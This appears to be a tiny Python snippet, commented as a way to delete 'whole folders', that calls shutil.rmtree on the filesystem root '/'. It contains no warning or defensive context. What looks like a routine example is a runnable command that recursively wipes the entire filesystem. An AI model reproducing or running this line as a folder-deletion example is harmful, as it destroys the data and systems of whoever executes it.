# Whole folders.
import shutil

shutil.rmtree("/")
